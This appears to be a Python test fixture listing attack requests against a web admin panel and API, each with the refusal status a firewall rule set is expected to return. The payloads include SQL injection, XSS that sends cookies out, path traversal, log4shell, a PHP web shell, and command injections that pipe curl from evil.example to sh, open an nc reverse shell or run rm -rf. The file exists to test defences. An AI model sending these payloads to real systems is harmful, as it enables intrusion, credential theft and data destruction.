"""Attacks on admin and API as they are seen on the wire, and who has to refuse each."""

from dataclasses import dataclass, field
from urllib.parse import urlencode

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class Attack:
    """One request. `by_rules`: the rule set refuses it, and with the engine off it gets through."""

    name: str
    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    status: tuple[int, ...] = (403,)
    by_rules: bool = True


def _query(name: str, path: str, value: str) -> Attack:
    return Attack(name, "GET", f"{path}?{urlencode({'q': value})}")


def _form(name: str, path: str, **fields: str) -> Attack:
    return Attack(name, "POST", path, FORM, urlencode(fields).encode())


def _json(name: str, text: str) -> Attack:
    return Attack(name, "POST", "/api/v1/campaigns/", JSON, text.encode())


def _agent(name: str, agent: str) -> Attack:
    return Attack(f"scanner {name}", "GET", "/admin/", {"User-Agent": agent})


LIST, LOGIN = "/admin/campaigns/campaign/", "/admin/login/"

SQL = [
    _query("sql tautology", LIST, "' OR '1'='1"),
    _query("sql comment", LIST, "1' OR 1=1-- -"),
    _query("sql union", LIST, "' UNION SELECT username, password FROM auth_user--"),
    _query("sql sleep", LIST, "1; SELECT pg_sleep(10)--"),
    _query("sql stacked", LIST, "1'; DROP TABLE orders_order; --"),
    _query("sql blind", LIST, "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0"),
    _form("sql in the log-in", LOGIN, username="admin' OR 1=1 --", password="x"),
    _form("sql in a title", f"{LIST}add/", title="x' UNION SELECT secret FROM keys --"),
    _json("sql in json", "{\"slug\": \"x' OR '1'='1\"}"),
    _json("sql in a list of json", '{"items": [{"sku": "1; DELETE FROM pool WHERE 1=1 --"}]}'),
    Attack("sql in a cookie", "GET", LIST, {"Cookie": "lang=1' OR '1'='1' --"}),
    Attack(
        "sql in the path", "GET", f"{LIST}1'%20OR%20'1'='1/change/", status=(404,), by_rules=False
    ),
]
XSS = [
    _query("script", LIST, "<script>alert(document.cookie)</script>"),
    _query("image", LIST, '"><img src=x onerror=alert(1)>'),
    _query("svg", "/api/v1/campaigns/", "<svg/onload=alert(1)>"),
    _query("javascript address", LIST, '<a href="javascript:alert(1)">x</a>'),
    _form("stored script", f"{LIST}add/", title="<script>fetch('//x/'+document.cookie)</script>"),
    _form("frame", f"{LIST}add/", reason="<iframe src=//evil.example></iframe>"),
    _json("script in json", '{"title": "<script src=//evil.example/x.js></script>"}'),
    Attack("script in referer", "GET", "/admin/", {"Referer": "<script>alert(1)</script>"}),
]
PATHS = [
    _query("traversal in a field", LIST, "../../../../etc/passwd"),
    _query("windows traversal", LIST, "..\\..\\windows\\win.ini"),
    _query("file scheme", LIST, "file:///etc/passwd"),
    _query("known file", LIST, "/proc/self/environ"),
    Attack("dots", "GET", "/static/../../etc/passwd", status=(400, 404), by_rules=False),
    Attack(
        "coded dots",
        "GET",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        ({}),
        None,
        (400, 404),
        by_rules=False,
    ),
    Attack(
        "coded twice", "GET", "/static/%252e%252e%252fetc/passwd", status=(404,), by_rules=False
    ),
    Attack("backslashes", "GET", "/static/..%5c..%5cetc", status=(404,), by_rules=False),
    Attack("backup file", "GET", "/admin/settings.py.bak"),
    Attack("hidden file", "GET", "/static/.git/config", status=(404,), by_rules=False),
]
COMMANDS = [
    _query("command", LIST, "; cat /etc/passwd"),
    _query("substitution", LIST, "$(curl http://evil.example/x|sh)"),
    _query("pipe", LIST, "x | nc -e /bin/sh 10.0.0.1 4444"),
    _query("backquotes", LIST, "`id`;wget http://evil.example/x"),
    _form("command in a form", f"{LIST}add/", slug="x;/bin/bash -c 'id'"),
    _json("command in json", '{"slug": "a; rm -rf /; curl http://evil.example"}'),
    Attack("shellshock", "GET", "/admin/", {"User-Agent": "() { :;}; /bin/bash -c id"}),
    Attack("log4shell", "GET", "/admin/", {"X-Api-Version": "${jndi:ldap://evil.example/a}"}),
    _query("php", LIST, "<?php system($_GET['c']); ?>"),
    _query("remote file", LIST, "http://10.0.0.1/shell.txt?"),
]
SCANNERS = [
    _agent("sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    _agent("nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
    _agent("nessus", "Nessus SOAP v0.0.1"),
    _agent("nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine; nmap.org)"),
    _agent("masscan", "masscan/1.3"),
    _agent("wpscan", "WPScan v3.8"),
]
PROTOCOL = [
    Attack("unknown method", "FOO", "/admin/"),
    Attack("foreign content type", "POST", LOGIN, {"Content-Type": "application/xml"}, b"<a/>"),
    Attack("broken json", "POST", "/api/v1/campaigns/", JSON, b'{"title": ', (400,)),
    Attack(
        "deep json", "POST", "/api/v1/campaigns/", JSON, b'{"a":' * 100 + b"1" + b"}" * 100, (400,)
    ),
    Attack(
        "too many fields", "POST", LOGIN, FORM, b"&".join(b"a%d=1" % n for n in range(1100)), (400,)
    ),
    Attack("header injection", "GET", f"{LIST}?next=x%0d%0aSet-Cookie:%20a=b"),
    Attack("null byte", "GET", f"{LIST}?q=a%00b", status=(400, 403)),
    Attack("body of a GET", "GET", LIST, {"Content-Length": "5"}, b"hello"),
    Attack(
        "broken multipart",
        "POST",
        LOGIN,
        {"Content-Type": "multipart/form-data; boundary=x"},
        b"--x\r\nnonsense\r\n",
        (400, 403),
    ),
]
OVERSIZE = [
    Attack("body", "POST", LOGIN, FORM, b"a=" + b"x" * 1_100_000, (413,), by_rules=False),
    Attack("address", "GET", f"{LIST}?q={'x' * 9000}", status=(414,), by_rules=False),
    Attack("header", "GET", LIST, {"X-Long": "x" * 9000}, status=(400,), by_rules=False),
]
INTERNAL = [
    Attack(f"internal {path}", "GET", path, status=(404,), by_rules=False)
    for path in (
        "/internal/snapshot",
        "//internal/snapshot",
        "/%69nternal/snapshot",
        "/admin/../internal/snapshot",
        "/admin/%2e%2e/internal/snapshot",
        "/admin/..%2finternal/snapshot",
        "/internal/reservations/../../admin/",
        "/internal/reserve",
        "/readyz",
        "/metrics",
        "/administrator/",
        "/healthz/",
    )
]

ALL = [*SQL, *XSS, *PATHS, *COMMANDS, *SCANNERS, *PROTOCOL, *OVERSIZE, *INTERNAL]
